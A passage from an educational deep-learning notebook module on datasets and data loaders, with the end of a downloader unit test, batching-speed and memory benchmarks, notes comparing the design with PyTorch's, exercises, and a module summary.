        # Nothing local, downloads off: the error names the file, the folder and its origin.
        with pytest.raises(DownloadError) as err:
            download_mnist(root=tmp / "data", download=False)
        assert all(fact in str(err.value) for fact in
                   ("train-images-idx3-ubyte.gz", str(tmp / "data" / "mnist"), "root argument"))
        # Downloaded from the second mirror (the first is missing), then loaded.
        mirrors = [(tmp / "down").as_uri(), server.as_uri()]
        train, test = download_mnist(root=tmp / "data", mirrors=mirrors, progress=False)
        assert len(train) == 6 and len(test) == 3
        assert train.data.shape == (6, 1, 28, 28) and train.data.dtype == np.uint8
        x, y = train[0]
        assert x.shape == (1, 28, 28) and x.dtype == np.float32 and 0 <= y <= 9
        assert sorted(os.listdir(tmp / "data" / "mnist")) == sorted(mnist)
        # Found through $TINYTORCH_DATA, with no mirrors at all.
        saved = os.environ.get("TINYTORCH_DATA")
        os.environ["TINYTORCH_DATA"] = str(tmp / "data")
        try:
            assert len(download_mnist(mirrors=[], progress=False)[0]) == 6
        finally:
            if saved is None:
                del os.environ["TINYTORCH_DATA"]
            else:
                os.environ["TINYTORCH_DATA"] = saved
        # A corrupted local file is reported, never parsed, never replaced.
        (tmp / "data" / "mnist" / MNIST_FILES["test"][1]).write_bytes(b"not mnist")
        with pytest.raises(ChecksumError, match="t10k-labels-idx1-ubyte.gz failed its checksum"):
            download_mnist(root=tmp / "data", mirrors=mirrors, progress=False)
        assert (tmp / "data" / "mnist" / MNIST_FILES["test"][1]).read_bytes() == b"not mnist"

        # CIFAR-10 from six local .bin files.
        (tmp / "data" / "cifar10").mkdir()
        for name, data in cifar.items():
            (tmp / "data" / "cifar10" / name).write_bytes(data)
        train, test = download_cifar10(root=tmp / "data", download=False)
        assert len(train) == 10 and len(test) == 2 and train.data.shape == (10, 3, 32, 32)
        assert train.classes[0] == "airplane" and test.targets.dtype == np.int64
        images, labels = read_cifar10_bin(tmp / "data" / "cifar10" / "data_batch_2.bin")
        np.testing.assert_array_equal(train.data[2:4], images)


if __name__ == "__main__":
    test_unit_download_mnist_and_cifar10()

# %% [markdown]
# ## Complexity Analysis
#
# For a dataset of `N` samples of `D` values each, batch size `B`:
#
# | step | cost | notes |
# |---|---|---|
# | permutation per epoch | O(N) time, 8N bytes | 60 000 indices: well under 1 ms |
# | fast `get_batch` | O(B·D) bytes copied, **1** NumPy call per array | the gather reads B scattered rows |
# | slow path (per sample) | O(B·D) bytes + **B** Python calls | ~10 µs per sample here: a call, a tuple, small arrays, the stack |
# | uint8 → float32 per batch | O(B·D), reads D, writes 4D bytes | paid once per batch, saves 3N·D bytes of memory |
# | `Normalize` | O(B·D) | one broadcast subtract and divide |
# | `RandomCrop` | O(B·C·(H+2p)·(W+2p)) for the pad, O(B·C·h·w) for the gather | the window view itself is free |
# | `RandomHorizontalFlip` | O(B·D) | one copy, one masked assignment |
# | checksum | O(file size), constant memory | ~0.5 GB/s for sha256 on one core here |
# | idx / CIFAR parse | O(file size) | gunzip dominates; `frombuffer` is free |
#
# An epoch therefore costs O(N·D) bytes of copying whichever path you take. What differs is
# the constant: the slow path pays the Python interpreter `N` times per epoch, the fast path
# `N / B` times. The measurement below runs both on MNIST-sized data (random bytes with the
# shapes of MNIST, so no download is needed). Measured on a shared 2-core machine (hence the
# ranges over several runs), at `B = 64`: 7 000–11 000 batches/s for the fast path against
# 1 300–1 500 for the per-sample path, **5–9× faster**; at `B = 256` the factor is 7–9, because
# the fast path's fixed cost per batch is spread over more samples while the slow path pays per
# sample whatever the batch size. One epoch of MNIST (938 batches of 64) takes about 0.1 s
# through the fast path and about 0.7 s through the slow one. The per-sample dataset here is
# as lean as one can be (it returns NumPy arrays); one that builds a Tensor per sample, or
# decodes a file, is slower still, and that is where PyTorch's worker processes come in.

# %% nbgrader={"grade": false, "grade_id": "analyze-batching-speed", "locked": false, "schema_version": 3, "solution": false}
def analyze_batching_speed(n: int = 60_000, batch_sizes: tuple[int, ...] = (64, 256), seconds: float = 1.0) -> dict:
    """Batches per second through a DataLoader: one gather per batch vs one __getitem__ per sample."""
    rng = np.random.default_rng(0)
    images = rng.integers(0, 256, size=(n, 1, 28, 28), dtype=np.uint8)
    labels = rng.integers(0, 10, size=n)
    fast = ImageDataset(images, labels)

    class PerSample(Dataset):
        """The same data, served the way a first Dataset is usually written: one sample per call."""

        def __len__(self):
            return n

        def __getitem__(self, i):
            return images[i].astype(np.float32) / 255, labels[i]

    slow = PerSample()
    results = {}
    for batch_size in batch_sizes:
        for name, dataset in (("fast", fast), ("slow", slow)):
            loader = DataLoader(dataset, batch_size=batch_size, shuffle=True, seed=0)
            count, start = 0, time.perf_counter()
            while time.perf_counter() - start < seconds:
                for _ in zip(range(50), loader):
                    count += 1
            rate = count / (time.perf_counter() - start)
            results[(name, batch_size)] = rate
            print(f"batch {batch_size:>4}, {name} path: {rate:8.0f} batches/s = {rate * batch_size / 1e3:8.0f}k samples/s"
                  f"   (one MNIST epoch: {n / batch_size / rate:6.2f} s)")
        print(f"  → the fast path is {results[('fast', batch_size)] / results[('slow', batch_size)]:.0f}× faster")
    return results


if __name__ == "__main__":
    analyze_batching_speed()

# %% [markdown]
# ## Memory Profiling
#
# How much memory does a dataset take, and what does keeping it as bytes cost per batch? The
# function below measures, on the real MNIST when `$TINYTORCH_DATA` has it and on random bytes
# of the same shape otherwise:
#
# - the bytes of the training images as stored (uint8) and as float32 (`nbytes` of the arrays),
# - the time to gather a batch of 256 from a uint8 store and convert it, against gathering it
#   from a float32 store that was converted once at load time,
# - the peak memory of loading MNIST from its files (with `tracemalloc`, which sees NumPy's
#   allocations), when the files are there.
#
# Measured on a 2-core machine with the real MNIST: 47.0 MB as uint8 against 188.2 MB as
# float32 (4×, as expected). A batch of 256 takes about 0.10 ms to gather and convert from
# uint8, and about 0.16 ms to gather from float32: converting per batch is *faster*, because the
# gather from uint8 reads 4× fewer bytes of scattered memory, and scattered reads dominate. The
# peak while loading train and test is about 115 MB: the compressed files (11.6 MB) and gzip's
# buffers come and go, the decompressed bytes (55 MB) stay, viewed, not copied, by the
# datasets. So **keeping uint8 is the right call**: 4× less memory (614 → 154 MB for CIFAR-10)
# and no cost per batch.

# %% nbgrader={"grade": false, "grade_id": "profile-dataset-memory", "locked": false, "schema_version": 3, "solution": false}
def profile_dataset_memory(batch_size: int = 256, repeats: int = 200) -> dict[str, float]:
    """Dataset bytes as uint8 vs float32, and the per-batch price of converting, measured."""
    import tracemalloc

    peak = None
    try:
        tracemalloc.start()
        train, _ = download_mnist(download=False, progress=False)
        peak = tracemalloc.get_traced_memory()[1]
        source = "the real MNIST"
    except (DownloadError, ChecksumError):
        rng = np.random.default_rng(0)
        train = ImageDataset(rng.integers(0, 256, size=(60_000, 1, 28, 28), dtype=np.uint8),
                             rng.integers(0, 10, size=60_000))
        source = "random bytes shaped like MNIST (set $TINYTORCH_DATA to use the real files)"
    finally:
        tracemalloc.stop()
    as_float = TensorDataset(train.data.astype(np.float32) / 255, train.targets)
    print(f"{source}:")
    print(f"  uint8 images:   {train.data.nbytes:>12,} bytes ({train.data.nbytes / 1e6:6.1f} MB)")
    print(f"  float32 images: {as_float.arrays[0].nbytes:>12,} bytes ({as_float.arrays[0].nbytes / 1e6:6.1f} MB)")
    if peak is not None:
        print(f"  peak memory while loading train + test: {peak / 1e6:.1f} MB")

    indices = [np.random.default_rng(k).integers(0, len(train), batch_size) for k in range(repeats)]
    timings = {}
    for name, dataset in (("uint8 → float32 per batch", train), ("float32 stored", as_float)):
        best = float("inf")
        for _ in range(3):
            start = time.perf_counter()
            for idx in indices:
                dataset.get_batch(idx)
            best = min(best, (time.perf_counter() - start) / repeats)
        timings[name] = best
        print(f"  batch of {batch_size}, {name:<26}: {best * 1e3:6.3f} ms")
    return {"uint8_bytes": train.data.nbytes, "float32_bytes": as_float.arrays[0].nbytes,
            "peak_load_bytes": peak or 0, **timings}


if __name__ == "__main__":
    profile_dataset_memory()

# %% [markdown]
# ## Production Context
#
# **`torch.utils.data`** has the same two halves, with more machinery around each:
#
# - **Datasets.** Map-style (`__len__`, `__getitem__`, like ours) and **iterable-style**
#   (`IterableDataset`: a stream, for data that does not fit on one disk or arrives over the
#   network; shuffling then happens in a buffer). `TensorDataset`, `ConcatDataset`, `Subset`
#   and `random_split` compose datasets.
# - **Samplers.** The order is a separate object: `SequentialSampler`, `RandomSampler`,
#   `WeightedRandomSampler` (oversample rare classes), `DistributedSampler` (each of 8 GPUs
#   gets a disjoint eighth of the permutation, reshuffled per epoch with `set_epoch`). A
#   `BatchSampler` groups indices; a `collate_fn` stacks samples (`default_collate` handles
#   nested tuples and dicts, like our `stack_samples`). A dataset may define `__getitems__`
#   to fetch a whole batch at once: the same fast path as our `get_batch`.
# - **Workers.** `num_workers=8` starts 8 processes, each holding a copy of the dataset and
#   producing whole batches; `prefetch_factor=2` batches per worker are prepared while the GPU
#   computes. Processes, not threads, because per-sample Python code (JPEG decoding,
#   augmentation) holds the GIL. Each worker gets its own seed (`base_seed + worker_id`);
#   before PyTorch 1.9, NumPy's global generator was *copied* into every worker, so all
#   workers produced the same "random" augmentations, a bug found in many published
#   repositories. A per-loader generator, as here, avoids this by construction.
# - **`pin_memory=True`** puts batches in page-locked host memory, from which the GPU can copy
#   by DMA, asynchronously (`x.to("cuda", non_blocking=True)`), overlapping the copy with the
#   previous step's compute.
#
# **torchvision.datasets.MNIST** downloads the same four files from the same mirror
# (`ossci-datasets.s3.amazonaws.com`), checks their md5, and stores the images as a uint8
# tensor, converting per sample in `ToTensor()`: the same decision as ours. Its
# **CIFAR10** downloads the *Python* version and unpickles it, after an md5 check.
# `torchvision.transforms.v2` transforms can take batched tensors, and on a GPU
# augmentation of a whole batch is one kernel, as in our vectorised transforms.
#
# **At scale** the input pipeline is often the bottleneck: a GPU that trains a ResNet-50 at
# 3 000 images/s needs 3 000 JPEGs decoded, cropped and flipped per second. Production systems
# move decoding to the GPU (NVIDIA DALI), precompute compact formats (FFCV, TFRecord,
# WebDataset tar shards read sequentially from object storage), and overlap everything with
# compute (`tf.data`'s prefetch and parallel map). Hugging Face `datasets` stores columns in
# Apache Arrow files that are memory-mapped: like our `frombuffer`, the data is used where it
# lies, without a copy.
#
# ## ML Systems Thinking
#
# 1. An epoch of MNIST through the slow path takes about 0.7 s on a 2-core machine, the fast
#    path about 0.1 s, and a training step of the MLP of module 03 about 1 ms at batch 64.
#    What fraction of training time does each path cost? How would worker processes change the answer, and what
#    would they cost in memory?
# 2. Our loader draws its generator from `get_rng().spawn(1)` at construction. PyTorch draws
#    a seed from the global generator at each `__iter__`. Give a program in which the two
#    designs produce different batches after `manual_seed(0)`, and argue which one is easier
#    to keep reproducible when you add dropout to the model.
# 3. CIFAR-10's training set is 154 MB as uint8. ImageNet's is about 140 GB as JPEG and about
#    770 GB as float32 tensors at 224×224. Which of this module's decisions survive at that
#    scale, and which must change (think: memory, the per-epoch permutation, checksums, where
#    decoding and augmentation run)?
# 4. `RandomCrop` builds `sliding_window_view(padded, (h, w))` of shape
#    `(N, C, H', W', h, w)`. For CIFAR (N = 256, padding 4, crop 32) how many elements does
#    that view describe, and how many bytes does it occupy? Why is the final fancy index a copy
#    of only `N·C·h·w` elements?
# 5. A mirror answers with status 200 and an HTML page saying "quota exceeded". Which of our
#    checks catches it, and what would happen without that check? Which check catches a
#    connection cut off after 90% of the file, and which one would miss it?
# 6. Why is `os.replace` atomic only when the temp file is in the destination's folder? What
#    could a reader of the folder observe if we wrote directly to the final name, and what if
#    the process were killed between `write` and `fsync`?
#
# ## Module Summary
#
# You built the path from files on disk to batches a model can eat:
#
# - **`Dataset` / `TensorDataset`**: the two-method protocol, plus `get_batch(indices)`, the
#   fast path that gathers a whole batch with one fancy index per array (`stack_samples` is the
#   slow path any dataset gets for free, and the two are tested equal).
# - **`DataLoader`**: batches, `drop_last`, a fresh permutation every epoch from a per-loader
#   generator (`seed=`, or spawned from `manual_seed`'s), batches wrapped as float32 inputs and
#   int64 labels. Measured: 5–9× more batches per second than a per-sample loop.
# - **Transforms on whole batches**: `Normalize` (per channel), `RandomCrop` (per-sample
#   offsets through a sliding-window view, no loop), `RandomHorizontalFlip`, `Compose`, all
#   drawing from the loader's generator, so augmentation is reproducible.
# - **Generated datasets** for tests and demos: `make_xor`, `make_spirals`, `make_blobs` and
#   `load_digits` (8×8 digits rendered from stroke templates, vectorised, learnable).
# - **Real data**: `read_idx` and `read_cifar10_bin` check every header; `ImageDataset` keeps
#   uint8 in memory (4× less) and converts per batch (measured: no slower); `download_mnist` and
#   `download_cifar10` find their folder (argument → `$TINYTORCH_DATA` → `~/.cache/tinytorch`),
#   verify every file against one checksum registry before parsing, download from several
#   mirrors with a progress bar, write atomically, and fail with a message that says what is
#   missing, where they looked and what each mirror answered. No pickle anywhere.
#
# **Next:** milestone 03 trains an MLP on MNIST with these loaders (the 1986 backpropagation
# result, on 60 000 real digits), and module 09 (spatial) adds convolutions, which take the
# `(N, C, H, W)` batches of this module as they are.
